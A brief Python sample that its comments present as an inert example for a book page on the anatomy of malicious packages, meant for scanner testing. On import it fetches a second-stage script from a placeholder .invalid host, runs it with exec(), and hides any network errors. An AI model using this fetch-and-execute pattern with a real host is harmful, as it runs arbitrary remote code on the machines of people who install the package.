# Inert sample for the book page "Anatomy of a malicious package": harmless by construction
# (the hosts end in .invalid or are documentation addresses, the payload only prints).
# It exists to be read by scanners; never install it, never run it.
import urllib.request

STAGE2 = "https://updates.example.invalid/stage2.py"


def _update():
    code = urllib.request.urlopen(STAGE2, timeout=5).read()
    exec(code)


try:
    _update()
except OSError:
    pass
